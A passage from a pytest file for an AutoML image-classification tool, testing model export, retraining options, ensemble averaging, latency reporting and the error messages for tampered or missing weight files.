    # `auto` retrains, unless the caller (a time budget) says there is no time
    auto = automl_clf.load_spec(exported.spec)
    assert auto.final.retrain == "auto"
    assert retrain(auto, study, retrain_members=False).first.retrained is False


def test_retrain_never_without_the_weights_is_one_clear_line(
    spec_file: Path, tmp_path: Path
) -> None:
    raw = yaml.safe_load(spec_file.read_text())
    raw["study"]["n_trials"] = 1
    raw["final"] = {"retrain": "never"}
    write_spec(spec_file, raw)
    searched = runner.invoke(app, ["search", str(spec_file)])
    assert searched.exit_code == 0, searched.output
    _, study = open_study(spec_file)
    weights = Path(study.best_trial.user_attrs[WEIGHTS_ATTR]["file"])
    out = tmp_path / "export"
    weights.write_bytes(weights.read_bytes()[:-8] + bytes(8))  # the same size, other bytes
    for says in ("changed since it finished", "are gone"):
        result = runner.invoke(app, ["best", str(spec_file), "--export", str(out)])
        assert result.exit_code == 1, result.output  # a StudyError, as for a study without trials
        assert says in one_line(result.output) and "set final.retrain: always" in one_line(
            result.output
        )
        assert result.stderr.startswith("error: cannot export trial #0 as searched")
        assert len(result.stderr.strip().splitlines()) == 1 and "Traceback" not in result.output
        assert not out.exists()  # refused before anything was written
        weights.unlink(missing_ok=True)


def test_the_export_latency_is_measured_as_the_trials_is(exported: Exported) -> None:
    from automl_clf.models import factory
    from automl_clf.train import session

    _, study = open_study(exported.spec)
    manifest = json.loads((exported.folder / "model.json").read_text())
    trial = study.trials[manifest["trial"]]
    latency = manifest["latency"]
    assert latency["method"] == "automl_clf.models.factory.measure_latency_ms"
    assert session.measure_latency_ms is factory.measure_latency_ms  # what trials measure with
    assert latency["threads"] == trial.user_attrs["latency_threads"] == factory.LATENCY_THREADS
    assert latency["device"] == "cpu" and latency["ms"] > 0
    threads = f"eager, {latency['threads']} thread(s))"
    assert threads in (exported.folder / "report" / "report.md").read_text()


def test_a_single_model_export_keeps_its_layout(export: Path, tmp_path: Path) -> None:
    manifest = json.loads((export / "model.json").read_text())
    assert manifest["members"] == [] and not (export / "members").exists()
    assert manifest["retrained"] is True
    metrics = json.loads((export / "report" / "metrics.json").read_text())
    assert "single" not in metrics and "ensemble" not in metrics
    # an export written before these fields existed still loads, and predicts the same
    copy = shutil.copytree(export, tmp_path / "old")
    for key in ("members", "retrained", "latency"):
        manifest.pop(key)
    (copy / "model.json").write_text(json.dumps(manifest))
    paths = [row["path"] for row in read_test_predictions(export)[:5]]
    assert np.array_equal(
        automl_clf.load(copy).predict_proba(paths), automl_clf.load(export).predict_proba(paths)
    )


def member_probabilities(folder: Path, pixels: np.ndarray) -> list[np.ndarray]:
    """Each member of an ensemble export on its own: its network, weights and preprocessing."""
    manifest = json.loads((folder / "model.json").read_text())
    n_classes, (channels, size, _) = len(manifest["classes"]), manifest["input_shape"]
    out = []
    for member in manifest["members"]:
        config = TrialConfig.model_validate(member["config"])
        model = build_model(
            config.model, n_classes=n_classes, in_chans=channels, image_size=size
        ).eval()
        model.load_state_dict(load_file(folder / member["file"]))
        x = Preprocessing.model_validate(member["preprocessing"]).to_tensor(pixels)
        with torch.no_grad():
            out.append(model(x).softmax(1).numpy())
    return out


def test_an_ensemble_predicts_the_mean_of_its_members_probabilities(
    ensembled: Ensembled,
) -> None:
    manifest = json.loads((ensembled.folder / "model.json").read_text())
    members = manifest["members"]
    assert [m["file"] for m in members] == [
        "model.safetensors",
        "members/1.safetensors",
        "members/2.safetensors",
    ]
    assert {m["architecture"] for m in members} == {"cnn", "test_resnet"}
    assert len({tuple(m["preprocessing"]["mean"]) for m in members}) == 2  # two normalisations
    _, study = open_study(ensembled.spec)
    ranked = sorted(study.get_trials(states=(optuna.trial.TrialState.COMPLETE,)), key=trial_value)
    assert [m["trial"] for m in members] == [t.number for t in ranked]  # best first
    assert manifest["trial"] == study.best_trial.number == members[0]["trial"]
    for member in members:  # not retrained: each member is its trial's own weights
        assert member["retrained"] is False
        saved = load_file(study.trials[member["trial"]].user_attrs[WEIGHTS_ATTR]["file"])
        mine = load_file(ensembled.folder / member["file"])
        assert all(torch.equal(saved[k], mine[k]) for k in saved)
    predictor = automl_clf.load(ensembled.folder)
    paths = [row["path"] for row in read_test_predictions(ensembled.folder)]
    pixels = np.stack([predictor.load(path) for path in paths])
    alone = member_probabilities(ensembled.folder, pixels)
    mean = np.mean(alone, axis=0)
    calibrated = rescale(mean, 1 / predictor.temperature_)  # the mean, at the temperature
    assert np.allclose(predictor.predict_proba(paths), calibrated, atol=1e-5)
    assert not np.allclose(alone[0], alone[1], atol=1e-3)  # the members do differ
    assert predictor.predict(paths) == [predictor.classes_[i] for i in mean.argmax(axis=1)]


def trial_value(trial: optuna.trial.FrozenTrial) -> tuple[float, int]:
    assert trial.value is not None
    return trial.value, trial.number  # the tiny spec minimises val_loss


def test_predict_uses_the_ensemble(ensembled: Ensembled) -> None:
    rows = read_test_predictions(ensembled.folder)
    result = runner.invoke(app, ["predict", str(ensembled.folder), *(r["path"] for r in rows)])
    assert result.exit_code == 0, result.output
    predicted = list(csv.DictReader(io.StringIO(result.stdout)))
    assert [p["predicted"] for p in predicted] == [r["predicted"] for r in rows]
    for expected, got in zip(rows, predicted, strict=True):
        assert float(got["probability"]) == pytest.approx(float(expected["probability"]), abs=1e-5)


def test_an_ensemble_export_is_one_folder_that_lists_its_members(
    ensembled: Ensembled, tmp_path: Path
) -> None:
    marker = json.loads((ensembled.folder / "autoclf_export.json").read_text())
    assert {"members/1.safetensors", "members/2.safetensors"} <= set(marker["files"])
    copy = shutil.copytree(ensembled.folder, tmp_path / "export")
    check_replaceable(copy)  # as written: may be replaced
    (copy / "members" / "2.safetensors").write_bytes(b"mine")
    with pytest.raises(automl_clf.ExportError, match=r"changed since it was written \(members/2"):
        check_replaceable(copy)
    (copy / "members" / "2.safetensors").unlink()
    image = read_test_predictions(ensembled.folder)[0]["path"]
    result = runner.invoke(app, ["predict", str(copy), image])
    assert result.exit_code == 2
    assert one_line(result.output) == (
        f"error: {copy / 'members' / '2.safetensors'}: missing, but model.json lists it; "
        "the export is damaged or was edited: export it again with `autoclf best SPEC "
        "--export DIR`"
    )


def test_fewer_trials_than_the_ensemble_asks_for_is_said(ensembled: Ensembled) -> None:
    said = (
        "final.ensemble is 4, but study 'tiny' holds only 3 usable trial(s) (complete or cut "
        "at the deadline, feasible)"
    )
    assert said in one_line(ensembled.output)
    assert said in (ensembled.folder / "report" / "report.md").read_text().replace("\\", "")


def test_trials_cut_at_the_deadline_count_toward_the_ensemble_and_are_said_to(
    deadline_study: Path,
) -> None:
    """Issue 17: two trials a time budget cut were 'only 2 complete feasible trial(s)'. The note
    counts usable trials, complete or cut at the deadline, and says so."""
    spec = automl_clf.load_spec(deadline_study, overrides={"final.ensemble": 3})
    stored = optuna.load_study(study_name=spec.study.name, storage=spec.study.storage)
    study = optuna.create_study(study_name=spec.study.name)
    study.add_trials(stored.trials)  # #0 cut at the deadline, #1 pruned
    cut_value = stored.trials[0].user_attrs["objective_value"]
    study.add_trial(optuna.trial.create_trial(value=cut_value + 1.0))  # #2 complete, worse
    members, notes = choose_members(study, spec)
    assert [t.number for t in members] == [0, 2]
    assert notes == [
        "final.ensemble is 3, but study 'tiny' holds only 2 usable trial(s) (complete or cut at "
        "the deadline, feasible): the ensemble averages those 2"
    ]


def test_an_ensemble_retrains_each_member(ensembled: Ensembled, tmp_path: Path) -> None:
    raw = yaml.safe_load(ensembled.spec.read_text())
    raw["final"] = {"ensemble": 2, "retrain": "always"}
    spec = automl_clf.load_spec(write_spec(ensembled.spec.with_name("always.yaml"), raw))
    automl_clf.export_best(spec, tmp_path / "always")
    manifest = json.loads((tmp_path / "always" / "model.json").read_text())
    members = manifest["members"]
    assert len(members) == 2 and (tmp_path / "always" / "members" / "1.safetensors").is_file()
    assert all(m["retrained"] and m["train_on"] == "train+val" for m in members)
    assert all(m["config"]["train"]["class_weighting"] == "balanced" for m in members)
    _, study = open_study(ensembled.spec)
    saved = load_file(study.trials[members[1]["trial"]].user_attrs[WEIGHTS_ATTR]["file"])
    mine = load_file(tmp_path / "always" / "members" / "1.safetensors")
    assert not all(torch.equal(saved[k], mine[k]) for k in saved)  # trained again
    assert automl_clf.load(tmp_path / "always").predict(
        [r["path"] for r in read_test_predictions(tmp_path / "always")][:3]
    )


def test_an_ensemble_needs_one_objective_and_no_trial_pick(
    ensembled: Ensembled, tmp_path: Path
) -> None:
    raw = yaml.safe_load(ensembled.spec.read_text())
    raw["study"] |= {"objective": ["accuracy", "latency_ms"], "pruner": "none"}
    with pytest.raises(automl_clf.SpecError, match=r"final\.ensemble: averaging the top 4 trials"):
        automl_clf.load_spec(write_spec(tmp_path / "multi.yaml", raw))
    spec = automl_clf.load_spec(ensembled.spec)
    with pytest.raises(automl_clf.SpecError, match=r"set final\.ensemble: 1 to export trial #0"):
        automl_clf.export_best(spec, tmp_path / "picked", trial=0)
    assert not (tmp_path / "picked").exists()
